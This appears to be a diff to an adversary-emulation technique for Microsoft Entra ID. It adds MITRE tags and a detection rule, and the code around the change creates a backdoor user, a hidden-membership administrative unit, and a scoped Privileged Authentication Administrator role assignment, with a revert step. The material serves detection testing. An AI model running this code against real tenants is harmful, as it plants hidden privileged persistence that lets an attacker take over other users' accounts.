@@ -54,16 +54,23 @@ For <code>Service: Core Directory</code> and <code>Category: RoleManagement</cod
 
 - <code>Add scoped member to role</code>
 `,
-		Platform:                   stratus.EntraID,
-		IsIdempotent:               false,
-		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence},
+		Platform:              stratus.EntraID,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence},
+		MitreAttackTechniques: []string{"T1098.003", "T1564"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"properties.message": {"Add scoped member to role"}},
+			},
+			FalsePositives: []string{"Administrators delegating administration through administrative units"},
+		},
 		PrerequisitesTerraformCode: tf,
-		Detonate:                   detonate,
-		Revert:                     revert,
+		DetonateWithContext:        detonate,
+		RevertWithContext:          revert,
 	})
 }
 
-func detonate(params map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	// Fetch details from TF
 	roleId := params["paa_role_id"]
 	targetUserId := params["target_user_id"]
@@ -91,7 +98,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	passwordProfile.SetPassword(&password)
 	requestBodyUser.SetPasswordProfile(passwordProfile)
 
-	userResult, err := graphClient.Users().Post(context.Background(), requestBodyUser, nil)
+	userResult, err := graphClient.Users().Post(ctx, requestBodyUser, nil)
 	if err != nil {
 		return errors.New("could not create backdoor user: " + err.Error())
 	}
@@ -111,7 +118,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	visibility := "HiddenMembership"
 	requestBodyAU.SetVisibility(&visibility)
 
-	auResult, err := graphClient.Directory().AdministrativeUnits().Post(context.Background(), requestBodyAU, nil)
+	auResult, err := graphClient.Directory().AdministrativeUnits().Post(ctx, requestBodyAU, nil)
 	if err != nil {
 		return errors.New("could not create AU: " + err.Error())
 	}
@@ -124,7 +131,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	requestBodyMember := graphmodels.NewReferenceCreate()
 	odataId := fmt.Sprintf("https://graph.microsoft.com/v1.0/users/%s", targetUserId)
 	requestBodyMember.SetOdataId(&odataId)
-	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Members().Ref().Post(context.Background(), requestBodyMember, nil)
+	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Members().Ref().Post(ctx, requestBodyMember, nil)
 
 	if err != nil {
 		return errors.New("could not add member to AU: " + err.Error())
@@ -140,7 +147,7 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	requestBodyRole.SetDirectoryScopeId(&directoryScopeId)
 
 	log.Println("Assigning Privileged Authentication Administrator role to backdoor user " + backdoorPrincipalName + " over AU")
-	_, err = graphClient.RoleManagement().Directory().RoleAssignments().Post(context.Background(), requestBodyRole, nil)
+	_, err = graphClient.RoleManagement().Directory().RoleAssignments().Post(ctx, requestBodyRole, nil)
 	if err != nil {
 		return errors.New("could not assign role: " + err.Error())
 	}
@@ -148,14 +155,14 @@ func detonate(params map[string]string, providers stratus.CloudProviders) error
 	return nil
 }
 
-func revert(params map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, params map[string]string, providers stratus.CloudProviders) error {
 	// AU ID from detonate
 	suffix := fmt.Sprintf(" - %s", params["suffix"])
 
 	graphClient := providers.EntraId().GetGraphClient()
 
 	// 1. Get ID of Stratus created AU
-	auResult, err := graphClient.Directory().AdministrativeUnits().Get(context.Background(), nil)
+	auResult, err := graphClient.Directory().AdministrativeUnits().Get(ctx, nil)
 	if err != nil {
 		return errors.New("could not fetch AUs: " + err.Error())
 	}
@@ -173,13 +180,13 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 
 	// 2. Delete Hidden AU
 	log.Println("Deleting Administrative Unit with hidden membership " + auName)
-	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Delete(context.Background(), nil)
+	err = graphClient.Directory().AdministrativeUnits().ByAdministrativeUnitId(auId).Delete(ctx, nil)
 	if err != nil {
 		return errors.New("could not delete AU: " + err.Error())
 	}
 
 	// 3. Get backdoor user ID
-	userResult, err := graphClient.Users().Get(context.Background(), nil)
+	userResult, err := graphClient.Users().Get(ctx, nil)
 	if err != nil {
 		return errors.New("could not retrieve users: " + err.Error())
 	}
@@ -195,7 +202,7 @@ func revert(params map[string]string, providers stratus.CloudProviders) error {
 
 	// 4. Delete backdoor user
 	log.Println("Deleting backdoor user")
-	err = graphClient.Users().ByUserId(userId).Delete(context.Background(), nil)
+	err = graphClient.Users().ByUserId(userId).Delete(ctx, nil)
 	if err != nil {
 		return errors.New("could not delete backdoor user: " + err.Error())
 	}